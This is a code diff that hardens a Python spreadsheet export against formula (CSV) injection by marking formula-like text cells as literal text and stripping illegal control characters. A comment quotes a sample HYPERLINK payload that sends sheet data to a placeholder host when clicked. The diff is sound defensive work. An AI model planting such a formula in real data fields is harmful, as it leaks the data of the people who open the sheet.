@@ -138,9 +138,41 @@ def export_table(database: Database, what: str, out: Path, today: date | None = 
     return len(rows)
 
 
+# A text that a spreadsheet would take for a formula (OWASP, «CSV Injection»): it begins with
+# = + - @, a tab or a carriage return, possibly after spaces. «=HYPERLINK("http://x/?"&A1,…)»
+# as an applicant's name would otherwise send the sheet's data away when a case worker clicks.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width
+
+
+def _looks_like_formula(text: str) -> bool:
+    return text.lstrip(" ").startswith(_FORMULA_START)
+
+
+def _printable_cell(value):
+    """Text openpyxl can store: a control character (a NUL in a name) made every export fail."""
+    if isinstance(value, str):
+        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
+    return value
+
+
+def _as_text(worksheet) -> None:
+    """Every text cell that could be read as a formula is written as text, with Excel's quote prefix
+    (the apostrophe a person types before «=»): shown as written, never evaluated, not even after
+    editing the cell. The text itself is unchanged, so an exported queue imports back as it was."""
+    for row in worksheet.iter_rows(min_row=2):
+        for cell in row:
+            value = cell.value
+            if isinstance(value, str) and _looks_like_formula(value):
+                cell.data_type = "s"
+                cell.quotePrefix = True
+
+
 def write_xlsx(rows: list[dict], columns: tuple[str, ...], out: Path, sheet: str) -> None:
     import pandas as pd
 
+    rows = [{key: _printable_cell(value) for key, value in row.items()} for row in rows]
     frame = pd.DataFrame.from_records(rows, columns=list(columns))
     # Written beside the target, owner-only from the start (mkstemp), then moved into place.
     handle, temporary = tempfile.mkstemp(suffix=".xlsx", dir=out.parent)
@@ -150,6 +182,7 @@ def write_xlsx(rows: list[dict], columns: tuple[str, ...], out: Path, sheet: str
             frame.to_excel(writer, sheet_name=sheet, index=False)
             worksheet = writer.sheets[sheet]
             worksheet.freeze_panes = "A2"
+            _as_text(worksheet)
             for position, name in enumerate(frame.columns):
                 longest = max([len(str(name)), *(len(str(v)) for v in frame[name].head(500))], default=8)
                 worksheet.column_dimensions[worksheet.cell(1, position + 1).column_letter].width = min(60, longest + 2)
